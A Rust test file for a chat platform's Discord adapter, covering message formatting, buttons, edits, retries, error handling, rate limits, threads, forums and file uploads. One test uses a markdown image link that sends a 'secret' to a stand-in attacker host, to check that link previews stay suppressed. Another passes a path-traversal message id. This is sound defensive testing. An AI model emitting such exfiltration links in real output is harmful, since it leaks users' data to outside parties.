//! What we say and do, as Discord gets it, and what its answers mean.

use std::time::Duration;

use serde_json::{Value, json};
use talaria_model::{
    Act, Address, ChatKind, Choice, ChoiceId, Content, FileId, FileRef, MessageId, Notify,
    Progress, Shown,
};
use talaria_platform::{Found, SendError};
use talaria_testkit::scripted::{Fault, Reply};

use super::vendor::{DM, FORUM, GENERAL, US, Vendor, invalid, message, payload, problem};
use super::{Bench, act, address, direct, post};

const FIRST: u64 = 1_500_000_000_000_000_001;

fn file(id: &'static str, name: &str, mime: &str) -> FileRef {
    FileRef::new(FileId::literal(id), name, mime, 9)
}

fn choices(count: usize) -> Vec<Choice> {
    let choice = |number: usize| Choice {
        id: ChoiceId::new(format!("call-1.{number}")).unwrap(),
        label: format!("Answer {number}"),
    };
    (1..=count).map(choice).collect()
}

fn sent(bench: &mut Bench) -> Value {
    bench.asked.try_recv().expect("something was asked").1
}

#[tokio::test]
async fn a_post_is_what_discord_documents() {
    let mut bench = Bench::direct().await;
    let content = Content {
        choices: choices(7),
        reply_to: Some(MessageId::literal("77")),
        notify: Notify::Silently,
        ..Content::text("Which **one**? __Really__?")
    };
    let receipt = bench.outgoing.send(&act(&direct(), 1, Act::Post(content))).await.unwrap();
    let body = sent(&mut bench);
    let nonce = body["nonce"].as_str().unwrap();
    assert_eq!(nonce.len(), 24);
    let button = |n: usize| json!({ "type": 2, "style": 2, "label": format!("Answer {n}"), "custom_id": format!("call-1.{n}") });
    assert_eq!(
        body,
        json!({
            "content": "Which **one**? **Really**?",
            "allowed_mentions": { "parse": [], "replied_user": true },
            "nonce": nonce,
            "enforce_nonce": true,
            "message_reference": { "message_id": "77", "fail_if_not_exists": false },
            "flags": 4096 | 4,
            "components": [
                { "type": 1, "components": (1..=5).map(button).collect::<Vec<_>>() },
                { "type": 1, "components": (6..=7).map(button).collect::<Vec<_>>() },
            ],
        })
    );
    let said = bench.vendor.said(DM);
    assert_eq!(receipt.message.unwrap().as_str(), said[0]["id"].as_str().unwrap());
}

#[tokio::test]
async fn an_edit_takes_away_the_buttons_that_are_no_more() {
    let mut bench = Bench::direct().await;
    let asked = Content { choices: choices(2), ..Content::text("Which?") };
    let receipt = bench.outgoing.send(&act(&direct(), 1, Act::Post(asked))).await.unwrap();
    sent(&mut bench);
    let message = receipt.message.unwrap();
    let edit = Act::Edit { message, content: Content::text("The first.") };
    bench.outgoing.send(&act(&direct(), 1, edit)).await.unwrap();
    let expected = json!({
        "content": "The first.",
        "allowed_mentions": { "parse": [], "replied_user": true },
        "components": [],
        "flags": 4,
    });
    assert_eq!(sent(&mut bench), expected);
}

#[tokio::test]
async fn discord_opens_no_link_by_itself_unless_it_is_told_to() {
    let links = "see ![it](https://evil.example/?q=secret)";
    for (with, posted, edited) in [
        (json!({}), json!(4), json!(4)),
        (json!({ "disable_link_previews": false }), Value::Null, Value::Null),
    ] {
        let mut bench = Bench::guild(with).await;
        let place = address(GENERAL, ChatKind::Group);
        let receipt = bench.outgoing.send(&post(&place, 1, links)).await.unwrap();
        assert_eq!(sent(&mut bench)["flags"], posted);
        let edit = Act::Edit { message: receipt.message.unwrap(), content: Content::text(links) };
        bench.outgoing.send(&act(&place, 1, edit)).await.unwrap();
        assert_eq!(sent(&mut bench)["flags"], edited);
        bench.outgoing.send(&post(&address(FORUM, ChatKind::Forum), 2, links)).await.unwrap();
        let begun = bench.vendor.rest.requests_to("/threads");
        let begun = begun.iter().find(|it| it.method == "POST").unwrap().json();
        assert_eq!(begun["message"]["flags"], posted);
    }
}

#[tokio::test]
async fn a_repeat_shows_nothing_twice_whatever_its_words() {
    let bench = Bench::direct().await;
    let outbound = post(&direct(), 1, "hello");
    let first = bench.outgoing.send(&outbound).await.unwrap();
    let again = bench.outgoing.send(&outbound).await.unwrap();
    assert_eq!(first.message, again.message);
    let answer = bench.outgoing.send(&post(&direct(), 1, "hello, finally")).await.unwrap();
    assert_eq!(answer.message, first.message, "an answer is handed the preview it is to replace");
    assert_eq!(bench.vendor.said(DM).len(), 1);
}

#[tokio::test]
async fn what_takes_the_place_of_a_message_that_somebody_removed_is_a_message_of_its_own() {
    let bench = Bench::direct().await;
    let preview = bench.outgoing.send(&post(&direct(), 1, "hel")).await.unwrap().message.unwrap();
    bench.vendor.truth().messages.clear();
    let content = Content::text("hello");
    let edit = act(&direct(), 1, Act::Edit { message: preview, content });
    assert!(bench.outgoing.send(&edit).await.is_err());
    let anew = Act::Post(Content { anew: 1, ..Content::text("hello") });
    bench.outgoing.send(&act(&direct(), 1, anew)).await.unwrap();
    assert_eq!(bench.vendor.said(DM).len(), 1);
}

#[tokio::test]
async fn a_message_that_was_taken_away_can_be_said_again() {
    let bench = Bench::direct().await;
    let outbound = post(&direct(), 1, "hello");
    let first = bench.outgoing.send(&outbound).await.unwrap().message.unwrap();
    bench.outgoing.send(&act(&direct(), 1, Act::Delete { message: first })).await.unwrap();
    let same = bench.outgoing.send(&outbound).await;
    assert_eq!(same, Err(SendError::Vanished), "Discord remembers what is gone");
    let anew = Act::Post(Content { anew: 1, ..Content::text("hello") });
    let fresh = bench.outgoing.send(&act(&direct(), 1, anew)).await.unwrap();
    assert!(fresh.message.is_some(), "not the one that is gone");
    assert_eq!(bench.vendor.said(DM).len(), 1);
}

#[tokio::test]
async fn a_lost_answer_is_found_again_or_known_to_be_lost() {
    let bench = Bench::direct().await;
    let outbound = post(&direct(), 1, "hello");
    assert_eq!(bench.outgoing.find(&outbound).await, Ok(Found::Absent));
    bench.vendor.rest.fault("/messages", Fault::Afterwards(Reply::Cut));
    let sent = bench.outgoing.send(&outbound).await;
    assert!(matches!(sent, Err(SendError::Unconfirmed { .. })), "{sent:?}");
    let Ok(Found::Shown(receipt)) = bench.outgoing.find(&outbound).await else { panic!("shown") };
    let shown = bench.vendor.said(DM)[0]["id"].clone();
    assert_eq!(receipt.message.as_ref().unwrap().as_str(), shown.as_str().unwrap());
    let again = bench.outgoing.send(&outbound).await.unwrap();
    assert_eq!((again.message, bench.vendor.said(DM).len()), (receipt.message, 1));
}

#[tokio::test]
async fn the_echo_of_a_message_confirms_it() {
    let mut bench = Bench::direct().await;
    let outbound = post(&direct(), 1, "hello");
    bench.vendor.rest.fault("/messages", Fault::Instead(Reply::Cut));
    assert!(bench.outgoing.send(&outbound).await.is_err());
    bench.outgoing.send(&outbound).await.unwrap();
    let nonce = sent(&mut bench)["nonce"].clone();
    let mut echo = message(FIRST, DM, "hello");
    echo["author"]["id"] = json!(US);
    echo["nonce"] = nonce;
    bench.vendor.tell("MESSAGE_CREATE", echo);
    bench.vendor.tell("MESSAGE_CREATE", message(FIRST + 1, DM, "thanks"));
    bench.event().await;
    let Ok(Found::Shown(receipt)) = bench.outgoing.find(&outbound).await else { panic!("shown") };
    assert_eq!(receipt.message.unwrap().as_str(), FIRST.to_string());
}

#[tokio::test]
async fn each_failure_says_what_to_do() {
    let bench = Bench::direct().await;
    let later =
        json!({ "message": "You are being rate limited.", "retry_after": 1.5, "global": false });
    let cases = [
        (Reply::Cut, "unconfirmed"),
        (Reply::status(502, "<html>"), "unconfirmed"),
        (Reply::status(200, "<html>"), "unconfirmed"),
        (problem(401, 0, "401: Unauthorized"), "unauthorized"),
        (problem(403, 50001, "Missing Access"), "gone"),
        (problem(403, 50007, "Cannot send messages to this user"), "gone"),
        (problem(404, 10003, "Unknown Channel"), "gone"),
        (problem(403, 50013, "Missing Permissions"), "rejected"),
        (invalid("content"), "rejected"),
        (invalid("components"), "unreadable"),
        (problem(403, 40333, "internal network error"), "unreachable"),
        (Reply::status(429, later.to_string()), "throttled"),
    ];
    for (number, (reply, expected)) in (1..).zip(cases) {
        bench.vendor.rest.fault("/messages", Fault::Instead(reply));
        let error = bench.outgoing.send(&post(&direct(), number, "hello")).await.unwrap_err();
        let meaning = match &error {
            SendError::Throttled { after } => {
                assert_eq!(*after, Duration::from_millis(1_500));
                "throttled"
            }
            SendError::Halted { .. } => "halted",
            SendError::Gone { .. } => "gone",
            SendError::Unauthorized { .. } => "unauthorized",
            SendError::Unreadable { .. } => "unreadable",
            SendError::Vanished => "vanished",
            SendError::Rejected { .. } => "rejected",
            SendError::Unreachable { .. } => "unreachable",
            SendError::Unconfirmed { .. } => "unconfirmed",
        };
        assert_eq!(meaning, expected, "{number}: {error}");
        assert!(!error.to_string().contains("http://"), "no address: {error}");
    }
    let waiting = bench.outgoing.send(&post(&direct(), 99, "hello")).await;
    assert!(matches!(waiting, Err(SendError::Throttled { .. })), "without asking again");
    assert_eq!(bench.vendor.rest.requests_to("/messages").len(), 12);
}

#[tokio::test]
async fn an_empty_bucket_is_not_asked() {
    let bench = Bench::direct().await;
    bench.vendor.truth().headers = [
        ("x-ratelimit-bucket", "abcd"),
        ("x-ratelimit-limit", "5"),
        ("x-ratelimit-remaining", "0"),
        ("x-ratelimit-reset-after", "4.2"),
    ]
    .map(|(name, value)| (name.to_owned(), value.to_owned()))
    .to_vec();
    bench.outgoing.send(&post(&direct(), 1, "one")).await.unwrap();
    let second = bench.outgoing.send(&post(&direct(), 2, "two")).await;
    let Err(SendError::Throttled { after }) = second else { panic!("{second:?}") };
    assert!(after > Duration::from_secs(3) && after <= Duration::from_millis(4_200), "{after:?}");
    assert_eq!(bench.vendor.said(DM).len(), 1);
}

#[tokio::test]
async fn a_message_that_cannot_be_answered_is_no_reason_to_say_nothing() {
    let mut bench = Bench::direct().await;
    bench.vendor.rest.fault("/messages", Fault::Instead(invalid("message_reference")));
    let content = Content { reply_to: Some(MessageId::literal("77")), ..Content::text("hello") };
    bench.outgoing.send(&act(&direct(), 1, Act::Post(content))).await.unwrap();
    assert_eq!(sent(&mut bench)["message_reference"], Value::Null);
}

#[tokio::test]
async fn a_mention_notifies_whom_it_may() {
    let (vendor, asked) = Vendor::open().await;
    let with = json!({ "allow_mentions": { "users": true, "replied_user": false } });
    let mut bench = Bench::on(vendor, asked, &with).await;
    bench.outgoing.send(&post(&direct(), 1, "<@53908099506183680> @everyone")).await.unwrap();
    let body = sent(&mut bench);
    assert_eq!(body["allowed_mentions"], json!({ "parse": ["users"], "replied_user": false }));
    assert_eq!(body["content"], "<@53908099506183680> @everyone");
}

/// A mention that is answered in a thread of its own.
async fn in_thread(with: Value) -> (Bench, Address) {
    let mut bench = Bench::guild(with).await;
    let said = message(FIRST, GENERAL, &format!("<@{US}> what is for lunch?"));
    bench.vendor.truth().messages.entry(GENERAL.into()).or_default().insert(FIRST, said.clone());
    bench.vendor.tell("MESSAGE_CREATE", said);
    let to = bench.event().await.to;
    (bench, to)
}

#[tokio::test]
async fn the_first_act_in_a_promised_thread_makes_it() {
    let (bench, to) = in_thread(json!({})).await;
    bench.outgoing.send(&act(&to, 1, Act::Typing)).await.unwrap();
    let content = Content {
        reply_to: Some(MessageId::new(FIRST.to_string()).unwrap()),
        ..Content::text("Pizza.")
    };
    bench.outgoing.send(&act(&to, 1, Act::Post(content))).await.unwrap();
    let thread = bench.vendor.truth().channels[&FIRST.to_string()].clone();
    assert_eq!(
        (&thread["name"], &thread["parent_id"]),
        (&json!("what is for lunch?"), &json!(GENERAL))
    );
    let said = bench.vendor.said(&FIRST.to_string());
    assert_eq!(said[0]["content"], "Pizza.");
    assert_eq!(said[0]["message_reference"], Value::Null, "the question is not in the thread");
    assert_eq!(bench.vendor.rest.requests_to("/threads").len(), 1);
}

#[tokio::test]
async fn a_promise_survives_a_restart() {
    let (mut bench, to) = in_thread(json!({})).await;
    bench.again(&json!({})).await;
    bench.outgoing.send(&post(&to, 1, "Pizza.")).await.unwrap();
    let thread = bench.vendor.truth().channels[&FIRST.to_string()].clone();
    assert_eq!(thread["name"], "what is for lunch?", "asked of the message again");
    assert_eq!(bench.vendor.said(&FIRST.to_string()).len(), 1);
}

#[tokio::test]
async fn a_thread_that_somebody_else_made_is_as_good() {
    let (bench, to) = in_thread(json!({})).await;
    let exists = problem(400, 160_004, "A thread has already been created for this message");
    bench.vendor.rest.fault("/threads", Fault::Afterwards(exists));
    bench.outgoing.send(&post(&to, 1, "Pizza.")).await.unwrap();
    assert_eq!(bench.vendor.said(&FIRST.to_string()).len(), 1);
}

#[tokio::test]
async fn where_no_thread_can_be_made_the_channel_is_answered() {
    let (bench, to) = in_thread(json!({})).await;
    bench.vendor.rest.fault("/threads", Fault::Instead(problem(403, 50013, "Missing Permissions")));
    let question = MessageId::new(FIRST.to_string()).unwrap();
    let content = Content { reply_to: Some(question.clone()), ..Content::text("Pizza.") };
    let receipt = bench.outgoing.send(&act(&to, 1, Act::Post(content))).await.unwrap();
    let said = bench.vendor.said(GENERAL);
    assert_eq!(said[1]["content"], "Pizza.");
    assert_eq!(said[1]["message_reference"]["message_id"], question.as_str());
    let edit = Act::Edit { message: receipt.message.unwrap(), content: Content::text("Soup.") };
    bench.outgoing.send(&act(&to, 1, edit)).await.unwrap();
    assert_eq!(bench.vendor.said(GENERAL)[1]["content"], "Soup.");
    assert_eq!(bench.vendor.rest.requests_to("/threads").len(), 1, "asked once");
}

#[tokio::test]
async fn a_sign_stands_on_the_question_and_takes_the_place_of_the_one_before() {
    let (bench, to) = in_thread(json!({})).await;
    let question = MessageId::new(FIRST.to_string()).unwrap();
    for progress in [Progress::Seen, Progress::Done, Progress::Nothing] {
        let mark = Act::Mark { message: question.clone(), progress };
        bench.outgoing.send(&act(&to, 1, mark)).await.unwrap();
    }
    let on = format!("{GENERAL}/{FIRST}");
    let (eyes, done) = ("%F0%9F%91%80", "%E2%9C%85");
    let expected = [
        format!("PUT {on} {eyes}"),
        format!("PUT {on} {done}"),
        format!("DELETE {on} {eyes}"),
        format!("DELETE {on} {done}"),
    ];
    assert_eq!(bench.vendor.truth().signs, expected);
    bench
        .vendor
        .rest
        .fault("/reactions", Fault::Instead(problem(403, 50013, "Missing Permissions")));
    let mark = Act::Mark { message: question, progress: Progress::Seen };
    assert!(bench.outgoing.send(&act(&to, 1, mark)).await.is_ok(), "a sign is not worth a failure");
}

#[tokio::test]
async fn a_thread_that_was_put_away_is_opened_again() {
    let bench = Bench::direct().await;
    let receipt = bench.outgoing.send(&post(&direct(), 1, "one")).await.unwrap();
    let message = receipt.message.unwrap();
    bench
        .vendor
        .rest
        .fault(message.as_str(), Fault::Instead(problem(400, 50083, "Thread is archived")));
    let edit = Act::Edit { message, content: Content::text("two") };
    bench.outgoing.send(&act(&direct(), 1, edit)).await.unwrap();
    assert_eq!(bench.vendor.said(DM)[0]["content"], "two");
    let woken = bench.vendor.rest.requests_to(&format!("/channels/{DM}"));
    assert!(
        woken.iter().any(|it| it.method == "PATCH" && it.json() == json!({ "archived": false }))
    );
}

#[tokio::test]
async fn what_is_said_to_a_forum_begins_a_post() {
    let bench = Bench::guild(json!({})).await;
    let to = address(FORUM, ChatKind::Forum);
    let first = post(&to, 1, "# A plan\n\nWe could eat.");
    assert_eq!(bench.outgoing.find(&first).await, Ok(Found::Absent));
    let receipt = bench.outgoing.send(&first).await.unwrap();
    let message = receipt.message.unwrap();
    let Ok(Found::Shown(_)) = bench.outgoing.find(&first).await else { panic!("shown") };
    let mut rest = post(&to, 1, "And then sleep.");
    rest.id.part = 1;
    let second = bench.outgoing.send(&rest).await.unwrap();
    let said = bench.vendor.said(message.as_str());
    let texts: Vec<&str> = said.iter().filter_map(|it| it["content"].as_str()).collect();
    assert_eq!(texts, ["# A plan\n\nWe could eat.", "And then sleep."], "in the same post");
    let posted = bench.vendor.rest.requests_to("/threads");
    let begun = posted.iter().find(|it| it.method == "POST").unwrap().json();
    assert_eq!((&begun["name"], &begun["applied_tags"]), (&json!("A plan"), &json!(["702"])));
    for message in [message, second.message.unwrap()] {
        let edit = Act::Edit { message, content: Content::text("changed") };
        bench.outgoing.send(&act(&to, 1, edit)).await.unwrap();
    }
}

#[tokio::test]
async fn a_channel_that_turns_out_to_be_a_forum_gets_a_post() {
    let bench = Bench::guild(json!({})).await;
    let to = address(FORUM, ChatKind::Group);
    bench.outgoing.send(&post(&to, 1, "A plan")).await.unwrap();
    assert!(bench.vendor.truth().channels.values().any(|it| it["name"] == "A plan"));
}

#[tokio::test]
async fn files_go_along_in_parts_of_their_own() {
    let bench = Bench::direct().await;
    let files =
        vec![file("notes", "my notes (ü).txt", "text/plain"), file("gone", "lost.pdf", "x")];
    let content = Content { files, choices: choices(1), ..Content::text("Here.") };
    bench.outgoing.send(&act(&direct(), 1, Act::Post(content))).await.unwrap();
    let requests = bench.vendor.rest.requests_to("/messages");
    let [request] = requests.as_slice() else { panic!("one request") };
    let body = payload(request);
    assert_eq!(body["content"], "Here.\n(not sent: lost.pdf)");
    assert_eq!(body["attachments"], json!([{ "id": "0", "filename": "my_notes____.txt" }]));
    assert_eq!(body["components"].as_array().unwrap().len(), 1);
    let text = String::from_utf8_lossy(&request.body).into_owned();
    assert!(text.contains("name=\"files[0]\"; filename=\"my_notes____.txt\""), "{text}");
    assert!(text.contains("the notes"));
}

#[tokio::test]
async fn more_files_than_fit_go_in_several_messages_that_can_be_repeated() {
    let bench = Bench::direct().await;
    let files = (0..12).map(|_| file("notes", "n.txt", "text/plain")).collect();
    let many = act(&direct(), 1, Act::Post(Content { files, ..Content::text("Many.") }));
    let first = bench.outgoing.send(&many).await.unwrap();
    let again = bench.outgoing.send(&many).await.unwrap();
    assert_eq!(first.message, again.message);
    let counts: Vec<usize> = bench
        .vendor
        .rest
        .requests_to("/messages")
        .iter()
        .map(|request| payload(request)["attachments"].as_array().unwrap().len())
        .collect();
    assert_eq!(counts, [10, 2, 10, 2]);
    assert_eq!(bench.vendor.said(DM).len(), 2);
    let big = |_| FileRef { size: 9 << 20, ..file("big", "b.bin", "application/octet-stream") };
    let files = (0..3).map(big).collect();
    let big = act(&direct(), 2, Act::Post(Content { files, ..Content::default() }));
    bench.outgoing.send(&big).await.unwrap();
    assert_eq!(bench.vendor.said(DM).len(), 4, "27 MiB do not fit into one request");
}

#[tokio::test]
async fn a_file_that_is_refused_is_named() {
    let mut bench = Bench::direct().await;
    let too_large = problem(413, 40005, "Request entity too large");
    bench.vendor.rest.fault("/messages", Fault::Instead(too_large));
    let files = vec![file("notes", "notes.txt", "text/plain")];
    let content = Content { files, ..Content::text("Here.") };
    bench.outgoing.send(&act(&direct(), 1, Act::Post(content))).await.unwrap();
    let body = sent(&mut bench);
    assert_eq!(body["content"], "Here.\n(not sent: notes.txt)");
    assert_eq!(body["attachments"], Value::Null);
}

#[tokio::test]
async fn a_recording_alone_is_somebody_speaking_if_it_is_meant_so() {
    let mut bench = Bench::direct().await;
    let recording = |delivery, shown| {
        let files = vec![FileRef { shown, ..file("voice", "answer.ogg", "audio/ogg") }];
        act(&direct(), delivery, Act::Post(Content { files, ..Content::default() }))
    };
    let voice = |delivery| recording(delivery, Shown::Voice);
    bench.outgoing.send(&recording(3, Shown::Natural)).await.unwrap();
    assert_eq!(sent(&mut bench)["attachments"][0]["filename"], "answer.ogg", "with a player");
    bench.outgoing.send(&voice(1)).await.unwrap();
    let body = sent(&mut bench);
    assert_eq!((&body["flags"], &body["content"]), (&json!(8192), &Value::Null));
    assert_eq!(body["attachments"][0]["duration_secs"], 3.0);
    let refused = problem(403, 50173, "Cannot send voice messages in this channel.");
    bench.vendor.rest.fault("/messages", Fault::Instead(refused));
    bench.outgoing.send(&voice(2)).await.unwrap();
    let body = sent(&mut bench);
    assert_eq!((&body["flags"], &body["content"]), (&json!(4), &json!("")), "a file instead");
    assert_eq!(body["attachments"][0]["filename"], "answer.ogg");
}

#[tokio::test]
async fn what_has_no_id_of_discords_is_refused() {
    let bench = Bench::direct().await;
    let stray = address("general", ChatKind::Group);
    let sent = bench.outgoing.send(&post(&stray, 1, "hello")).await;
    assert!(matches!(sent, Err(SendError::Rejected { .. })), "{sent:?}");
    let edit = Act::Edit { message: MessageId::literal("../1"), content: Content::text("x") };
    let sent = bench.outgoing.send(&act(&direct(), 1, edit)).await;
    assert!(matches!(sent, Err(SendError::Rejected { .. })), "{sent:?}");
}

#[tokio::test]
async fn a_vendor_that_is_not_there_got_nothing() {
    let bench = Bench::direct().await;
    let Bench { vendor, outgoing, .. } = bench;
    drop(vendor);
    // A connection that is still being closed may take one request with it.
    let mut sent = outgoing.send(&post(&direct(), 1, "hello")).await;
    if matches!(sent, Err(SendError::Unconfirmed { .. })) {
        sent = outgoing.send(&post(&direct(), 1, "hello")).await;
    }
    assert!(matches!(sent, Err(SendError::Unreachable { .. })), "{sent:?}");
}
